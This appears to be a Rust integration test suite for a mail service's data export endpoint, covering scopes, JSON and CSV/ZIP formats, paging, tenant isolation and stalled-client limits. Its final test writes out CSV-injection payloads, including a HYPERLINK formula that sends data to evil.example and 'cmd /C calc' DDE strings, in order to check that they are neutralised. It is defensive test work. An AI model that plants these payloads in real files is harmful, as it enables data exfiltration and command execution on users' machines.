//! `GET /api/v1/export`: admin scope, the streamed JSON document and ZIP of CSV files, their
//! rows across pages, the site filter and tenant isolation.

use std::collections::HashMap;
use std::io::{Cursor, Read};

use rate_limit::policy::Plan;
use serde_json::{Value, json};
use uuid::Uuid;

use crate::common::*;

/// What a tenant holds after [`seed`].
struct Seeded {
    site: String,
    other_site: String,
    contact: String,
    log_id: Uuid,
}

/// Two contacts (one on each site) with an event, an email and a conversion.
async fn seed(h: &Harness, t: &Tenant, prefix: &str) -> Seeded {
    let site = h.site(&t.write, &format!("{prefix}-shop")).await;
    let other_site = h.site(&t.write, &format!("{prefix}-blog")).await;
    let res = h
        .post_json(
            &t.write,
            "/api/v1/identify",
            &json!({"email": format!("{prefix}-buyer@x.io"), "first_name": "Ann, \"the\" buyer",
                    "properties": {"plan": "pro", "seats": 3}, "tags": ["vip", "beta"],
                    "site_id": site}),
        )
        .await;
    let contact = json(res).await["contact_id"].as_str().unwrap().to_owned();
    h.post_json(
        &t.write,
        "/api/v1/identify",
        &json!({"email": format!("{prefix}-reader@x.io"), "site_id": other_site}),
    )
    .await;
    h.post_json(
        &t.write,
        "/api/v1/events",
        &json!({"email": format!("{prefix}-buyer@x.io"), "event": "purchase",
                "data": {"sku": "A1"}}),
    )
    .await;
    h.post_json(
        &t.write,
        "/api/v1/events",
        &json!({"email": format!("{prefix}-reader@x.io"), "event": "read"}),
    )
    .await;
    let log_id = Uuid::now_v7();
    let p = t.project;
    h.exec(&format!(
        "INSERT INTO email_log (id, project_id, site_id, contact_id, to_email, subject, status, \
           open_count, clicked_urls, sent_at, last_clicked_at) \
         VALUES ('{log_id}', '{p}', '{site}', '{contact}', '{prefix}-buyer@x.io', 'Hello', \
                 'clicked', 2, ARRAY['https://x.io/a'], now() - interval '1 hour', now())"
    ))
    .await;
    let res = h
        .post_json(
            &t.write,
            "/api/v1/conversion",
            &json!({"email": format!("{prefix}-buyer@x.io"), "revenue": 12.5,
                    "order_id": format!("{prefix}-order"), "metadata": {"coupon": "X"}}),
        )
        .await;
    assert_eq!(res.status(), 200);
    Seeded {
        site,
        other_site,
        contact,
        log_id,
    }
}

async fn export(h: &Harness, key: &str, query: &str) -> reqwest::Response {
    h.get_with(key, &format!("/api/v1/export{query}")).await
}

fn attachment_name(res: &reqwest::Response) -> String {
    let disposition = res.headers()["content-disposition"].to_str().unwrap();
    let name = disposition
        .strip_prefix("attachment; filename=\"")
        .and_then(|s| s.strip_suffix('"'))
        .unwrap_or_else(|| panic!("content-disposition: {disposition}"));
    name.to_owned()
}

#[tokio::test]
async fn the_json_export_is_one_document_of_the_projects_rows_only() {
    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
    let other = h.tenant(Plan::Enterprise).await;
    let mine = seed(&h, &t, "mine").await;
    let theirs = seed(&h, &other, "theirs").await;

    let res = export(&h, &t.admin, "?format=json").await;
    assert_eq!(res.status(), 200);
    assert_rate_limit_headers(&res);
    assert_eq!(res.headers()["content-type"], "application/json");
    // Streamed (chunked), not built in memory first: no length is known up front.
    assert!(res.headers().get("content-length").is_none());
    assert_eq!(res.headers()["transfer-encoding"], "chunked");
    let name = attachment_name(&res);
    assert!(
        name.starts_with(&format!("mail-export-{}-", t.project)) && name.ends_with(".json"),
        "{name}"
    );
    let text = res.text().await.unwrap();
    for theirs in [
        "theirs-buyer@x.io",
        &theirs.contact,
        &theirs.site,
        &theirs.log_id.to_string(),
        &other.project.to_string(),
    ] {
        assert!(!text.contains(theirs), "{theirs} leaked into the export");
    }
    let doc: Value = serde_json::from_str(&text).expect("one JSON document");
    // The members in their documented order (the parsed map sorts its keys).
    let positions: Vec<usize> = EXPORT_MEMBERS
        .iter()
        .map(|k| {
            text.find(&format!("\"{k}\":"))
                .unwrap_or_else(|| panic!("{k} missing"))
        })
        .collect();
    assert!(positions.is_sorted(), "{positions:?}");
    assert_eq!(doc.as_object().unwrap().len(), 7);
    assert_eq!(doc["project_id"], t.project.to_string().as_str());
    assert!(doc["site_id"].is_null());
    assert!(doc["exported_at"].as_str().unwrap().ends_with('Z'));

    let contacts = doc["contacts"].as_array().unwrap();
    assert_eq!(contacts.len(), 2);
    let buyer = &contacts[0];
    assert_eq!(
        *buyer,
        json!({
            "contact_id": mine.contact, "email": "mine-buyer@x.io",
            "first_name": "Ann, \"the\" buyer", "last_name": null,
            "properties": {"plan": "pro", "seats": 3}, "tags": ["vip", "beta"],
            "attribution": {}, "site_ids": [mine.site], "source": "identify",
            "created_at": buyer["created_at"], "updated_at": buyer["updated_at"],
        })
    );
    let created = buyer["created_at"].as_str().unwrap();
    assert!(created.ends_with('Z'), "{created}");
    chrono::DateTime::parse_from_rfc3339(created).unwrap();
    assert_eq!(contacts[1]["email"], "mine-reader@x.io");
    assert_eq!(contacts[1]["site_ids"], json!([mine.other_site]));

    let log = doc["email_log"].as_array().unwrap();
    assert_eq!(log.len(), 1);
    assert_eq!(log[0]["id"], mine.log_id.to_string().as_str());
    assert_eq!(log[0]["to"], "mine-buyer@x.io");
    assert_eq!(log[0]["status"], "clicked");
    assert_eq!(log[0]["open_count"], 2);
    assert_eq!(log[0]["clicked_urls"], json!(["https://x.io/a"]));
    assert!(log[0]["last_opened_at"].is_null());

    let events = doc["events"].as_array().unwrap();
    let names: Vec<&str> = events
        .iter()
        .map(|e| e["event"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["purchase", "read"]);
    assert_eq!(events[0]["data"], json!({"sku": "A1"}));
    assert_eq!(events[0]["contact_id"], mine.contact.as_str());

    let conversions = doc["conversions"].as_array().unwrap();
    assert_eq!(conversions.len(), 1);
    let c = &conversions[0];
    assert_eq!(c["revenue"], 12.5);
    assert_eq!(c["currency"], "USD");
    assert_eq!(c["order_id"], "mine-order");
    assert_eq!(c["attribution"], "click");
    assert_eq!(c["email_log_id"], mine.log_id.to_string().as_str());
    assert_eq!(c["metadata"], json!({"coupon": "X"}));

    // Without format: JSON too.
    let res = export(&h, &t.admin, "").await;
    assert_eq!(res.headers()["content-type"], "application/json");
    let again: Value = res.json().await.unwrap();
    assert_eq!(again["contacts"], doc["contacts"]);
    h.stop().await;
}

/// The ZIP's files by name, each as its CSV records (header first).
fn unzip(bytes: &[u8]) -> HashMap<String, Vec<Vec<String>>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a ZIP archive");
    let mut files = HashMap::new();
    let mut names = Vec::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().to_string();
        let mut text = String::new();
        file.read_to_string(&mut text).unwrap();
        let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        assert!(!rows.is_empty(), "{name} has a header row");
        names.push(name.clone());
        files.insert(name, rows);
    }
    assert_eq!(
        names,
        [
            "contacts.csv",
            "email_log.csv",
            "events.csv",
            "conversions.csv"
        ]
    );
    files
}

#[tokio::test]
async fn the_csv_export_is_a_zip_of_one_csv_per_table() {
    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
    let other = h.tenant(Plan::Enterprise).await;
    let mine = seed(&h, &t, "mine").await;
    let theirs = seed(&h, &other, "theirs").await;

    let res = export(&h, &t.admin, "?format=csv").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/zip");
    assert_eq!(res.headers()["cache-control"], "no-store");
    let name = attachment_name(&res);
    assert!(name.ends_with(".zip"), "{name}");
    let bytes = res.bytes().await.unwrap();
    let files = unzip(&bytes);

    let contacts = &files["contacts.csv"];
    assert_eq!(
        contacts[0],
        [
            "contact_id",
            "email",
            "first_name",
            "last_name",
            "properties",
            "tags",
            "attribution",
            "site_ids",
            "source",
            "created_at",
            "updated_at"
        ]
    );
    assert_eq!(contacts.len(), 3);
    let buyer = &contacts[1];
    assert_eq!(buyer[0], mine.contact);
    assert_eq!(buyer[1], "mine-buyer@x.io");
    assert_eq!(buyer[2], "Ann, \"the\" buyer");
    assert_eq!(buyer[3], "");
    let properties: Value = serde_json::from_str(&buyer[4]).unwrap();
    assert_eq!(properties, json!({"plan": "pro", "seats": 3}));
    let tags: Value = serde_json::from_str(&buyer[5]).unwrap();
    assert_eq!(tags, json!(["vip", "beta"]));
    let sites: Value = serde_json::from_str(&buyer[7]).unwrap();
    assert_eq!(sites, json!([mine.site]));
    assert!(buyer[9].ends_with('Z'));
    assert_eq!(contacts[2][1], "mine-reader@x.io");

    let log = &files["email_log.csv"];
    assert_eq!(log.len(), 2);
    assert_eq!(log[0][0], "id");
    assert_eq!(log[1][0], mine.log_id.to_string());
    let clicked: Value = serde_json::from_str(&log[1][9]).unwrap();
    assert_eq!(clicked, json!(["https://x.io/a"]));
    assert_eq!(files["events.csv"].len(), 3);
    assert_eq!(
        files["events.csv"][0],
        ["id", "contact_id", "event", "data", "created_at"]
    );
    let conversions = &files["conversions.csv"];
    assert_eq!(conversions.len(), 2);
    assert_eq!(conversions[1][5], "12.5");
    assert_eq!(conversions[1][7], "mine-order");

    for rows in files.values() {
        for row in rows {
            for cell in row {
                assert!(
                    !cell.contains("theirs") && !cell.contains(&theirs.contact),
                    "another project's data: {cell}"
                );
            }
        }
    }
    h.stop().await;
}

#[tokio::test]
async fn every_row_is_exported_once_across_pages_in_both_formats() {
    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
    let other = h.tenant(Plan::Enterprise).await;
    // 2,500 contacts: three pages of the export's 1,000, interleaved with another project's.
    for (project, n) in [(t.project, 2_500), (other.project, 700)] {
        h.exec(&format!(
            "INSERT INTO contacts (id, project_id, email, source) \
             SELECT gen_random_uuid(), '{project}', 'c' || i || '@{project}.io', 'contacts' \
             FROM generate_series(1, {n}) AS i"
        ))
        .await;
    }
    let res = export(&h, &t.admin, "?format=json").await;
    let doc: Value = res.json().await.unwrap();
    let contacts = doc["contacts"].as_array().unwrap();
    assert_eq!(contacts.len(), 2_500);
    let ids: Vec<Uuid> = contacts
        .iter()
        .map(|c| c["contact_id"].as_str().unwrap().parse().unwrap())
        .collect();
    let mut sorted = ids.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(sorted, ids, "id order, no duplicates");
    let suffix = format!("@{}.io", t.project);
    assert!(
        contacts
            .iter()
            .all(|c| c["email"].as_str().unwrap().ends_with(&suffix))
    );

    let res = export(&h, &t.admin, "?format=csv").await;
    let files = unzip(&res.bytes().await.unwrap());
    let csv_ids: Vec<Uuid> = files["contacts.csv"][1..]
        .iter()
        .map(|r| r[0].parse().unwrap())
        .collect();
    assert_eq!(csv_ids, ids);
    h.stop().await;
}

#[tokio::test]
async fn a_site_export_holds_the_sites_contacts_their_rows_and_its_email_log() {
    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
    let other = h.tenant(Plan::Enterprise).await;
    let mine = seed(&h, &t, "mine").await;
    let theirs = seed(&h, &other, "theirs").await;

    let res = export(&h, &t.admin, &format!("?site_id={}", mine.other_site)).await;
    assert_eq!(res.status(), 200);
    let doc: Value = res.json().await.unwrap();
    assert_eq!(doc["site_id"], mine.other_site.as_str());
    let emails: Vec<&str> = doc["contacts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails, ["mine-reader@x.io"]);
    assert_eq!(doc["events"].as_array().unwrap().len(), 1);
    assert_eq!(doc["events"][0]["event"], "read");
    assert_eq!(doc["email_log"], json!([]));
    assert_eq!(doc["conversions"], json!([]));

    let res = export(&h, &t.admin, &format!("?format=csv&site_id={}", mine.site)).await;
    let files = unzip(&res.bytes().await.unwrap());
    assert_eq!(files["contacts.csv"].len(), 2);
    assert_eq!(files["email_log.csv"].len(), 2);
    assert_eq!(files["conversions.csv"].len(), 2);

    let res = export(&h, &t.admin, &format!("?site_id={}", theirs.site)).await;
    expect_error(res, 404, "SITE_NOT_FOUND").await;
    h.stop().await;
}

#[tokio::test]
async fn the_export_needs_the_admin_scope_and_valid_parameters() {
    let (h, t) = Harness::with_tenant(Plan::Free).await;
    for key in [&t.read, &t.write] {
        let res = export(&h, key, "?format=json").await;
        expect_error(res, 403, "FORBIDDEN").await;
    }
    let res = h.anonymous().get("/api/v1/export").await;
    expect_error(res, 401, "UNAUTHORIZED").await;
    let res = export(&h, &t.admin, "?format=xml").await;
    let err = expect_error(res, 400, "VALIDATION_ERROR").await;
    assert_eq!(err.details["field"], "format");
    let res = export(&h, &t.admin, "?site_id=nope").await;
    let err = expect_error(res, 400, "VALIDATION_ERROR").await;
    assert_eq!(err.details["field"], "site_id");
    // An empty project exports empty tables.
    let res = export(&h, &t.admin, "?format=json").await;
    let doc: Value = res.json().await.unwrap();
    for table in ["contacts", "email_log", "events", "conversions"] {
        assert_eq!(doc[table], json!([]), "{table}");
    }
    let res = export(&h, &t.admin, "?format=csv").await;
    let files = unzip(&res.bytes().await.unwrap());
    assert!(files.values().all(|rows| rows.len() == 1));
    h.stop().await;
}

/// Seconds a stalled export waits for its client in [`stalled_exports_are_bounded_and_released`].
const SEND_TIMEOUT_SECS: u64 = 6;

/// `rows` contacts of about 2 KB each, hard to compress: far more than the socket buffers hold.
async fn seed_bulky(h: &Harness, project: Uuid, rows: u32) {
    h.exec(&format!(
        "INSERT INTO contacts (id, project_id, email, source, properties) \
         SELECT gen_random_uuid(), '{project}', 'c' || i || '@{project}.io', 'contacts', \
                jsonb_build_object('bio', (SELECT string_agg(md5(i::text || '.' || j), '') \
                                          FROM generate_series(1, 64) AS j)) \
         FROM generate_series(1, {rows}) AS i"
    ))
    .await;
}

/// A client that sends the export request and never reads a byte of the answer.
async fn stalled_export(h: &Harness, key: &str, format: &str) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt as _;
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    let host = h.server.base.strip_prefix("http://").unwrap();
    let mut stream = socket.connect(host.parse().unwrap()).await.unwrap();
    let request = format!(
        "GET /api/v1/export?format={format} HTTP/1.1\r\nHost: {host}\r\n\
         Authorization: Bearer {key}\r\n\r\n"
    );
    stream.write_all(request.as_bytes()).await.unwrap();
    stream
}

/// Sessions on the test database, other than the asking one, that are inside a transaction
/// or last ran an export page query.
async fn export_sessions(h: &Harness) -> (u64, u64) {
    let rows = h
        .query(
            "SELECT count(*) FILTER (WHERE xact_start IS NOT NULL) || ',' || \
                    count(*) FILTER (WHERE query LIKE '%AS doc%' OR query LIKE '%AS cells%') \
             FROM pg_stat_activity \
             WHERE datname = current_database() AND pid <> pg_backend_pid()",
        )
        .await;
    let (open, page_queries) = rows[0].split_once(',').unwrap();
    (open.parse().unwrap(), page_queries.parse().unwrap())
}

async fn wait_for_open_transactions(h: &Harness, expected: u64, within_secs: u64) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(within_secs);
    loop {
        let (open, _) = export_sessions(h).await;
        if open == expected {
            return;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{open} sessions in a transaction, expected {expected}"
        );
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

async fn expect_export_busy(res: reqwest::Response) {
    assert_eq!(
        res.headers()["retry-after"],
        SEND_TIMEOUT_SECS.to_string().as_str()
    );
    assert_rate_limit_headers(&res);
    let err = expect_error(res, 429, "EXPORT_BUSY").await;
    assert!(err.message.contains("exports"), "{err:?}");
}

#[tokio::test]
async fn stalled_exports_are_bounded_and_released() {
    let h = Harness::with(|url| {
        let mut s = settings(url);
        s.export.max_per_project = 2;
        s.export.max_per_process = 3;
        s.export.send_timeout_secs = SEND_TIMEOUT_SECS;
        s
    })
    .await;
    let a = h.tenant(Plan::Enterprise).await;
    let b = h.tenant(Plan::Enterprise).await;
    let c = h.tenant(Plan::Enterprise).await;
    let d = h.tenant(Plan::Enterprise).await;
    seed_bulky(&h, a.project, 8_000).await;
    seed_bulky(&h, c.project, 8_000).await;

    // Two clients of A that never read: A's bound is reached.
    let mut stalled = vec![
        stalled_export(&h, &a.admin, "json").await,
        stalled_export(&h, &a.admin, "csv").await,
    ];
    wait_for_open_transactions(&h, 2, 5).await;
    expect_export_busy(export(&h, &a.admin, "?format=json").await).await;
    // Another project exports at once (within the process's bound), and A's other routes
    // answer.
    let res = export(&h, &b.admin, "?format=json").await;
    let doc: Value = res.json().await.unwrap();
    assert_eq!(doc["project_id"], b.project.to_string());
    assert_eq!(h.get_with(&a.read, "/api/v1/sites").await.status(), 200);

    // A third stalled export (C's) reaches the process's bound: D is refused too.
    stalled.push(stalled_export(&h, &c.admin, "json").await);
    wait_for_open_transactions(&h, 3, 5).await;
    expect_export_busy(export(&h, &d.admin, "?format=csv").await).await;

    // The stalled streams end after the send timeout: connections and snapshots released.
    // (Read once the count reached 0: the service's background passes open short
    // transactions of their own at any time, so a second count of open transactions could
    // catch one of those.)
    wait_for_open_transactions(&h, 0, SEND_TIMEOUT_SECS + 10).await;
    assert_eq!(
        export_sessions(&h).await.1,
        0,
        "an export page query is still running"
    );
    let res = export(&h, &a.admin, "?format=json").await;
    let doc: Value = res.json().await.unwrap();
    assert_eq!(doc["contacts"].as_array().unwrap().len(), 8_000);
    drop(stalled);
    h.stop().await;
}

/// A cell a spreadsheet would evaluate (`=HYPERLINK(…)` sends data away on a click) comes out
/// with a leading `'` (OWASP, CSV injection); it was written as it was.
#[tokio::test]
async fn csv_cells_that_start_a_formula_are_neutralised() {
    let (h, t) = Harness::with_tenant(Plan::Enterprise).await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"Open")"#;
    for (email, first, last) in [
        ("f1@x.io", hyperlink, "+1+cmd|' /C calc'!A0"),
        ("f2@x.io", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
        ("f3@x.io", "Plain", "O'Neil = fine"),
    ] {
        let res = h
            .post_json(
                &t.write,
                "/api/v1/identify",
                &json!({"email": email, "first_name": first, "last_name": last}),
            )
            .await;
        assert!(res.status().is_success(), "{}", res.status());
    }
    let res = h
        .post_json(
            &t.write,
            "/api/v1/events",
            &json!({"email": "f1@x.io", "event": "=1+1"}),
        )
        .await;
    assert_eq!(res.status(), 200);

    let res = export(&h, &t.admin, "?format=csv").await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/zip");
    let files = unzip(&res.bytes().await.unwrap());
    let names: Vec<(&str, &str, &str)> = files["contacts.csv"][1..]
        .iter()
        .map(|row| (row[1].as_str(), row[2].as_str(), row[3].as_str()))
        .collect();
    let neutral = format!("'{hyperlink}");
    assert_eq!(
        names,
        [
            ("f1@x.io", neutral.as_str(), "'+1+cmd|' /C calc'!A0"),
            ("f2@x.io", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"),
            ("f3@x.io", "Plain", "O'Neil = fine"),
        ]
    );
    assert_eq!(files["events.csv"][1][2], "'=1+1");
    // The header row is the service's own and stays as it is.
    assert_eq!(files["contacts.csv"][0][1], "email");
    h.stop().await;
}
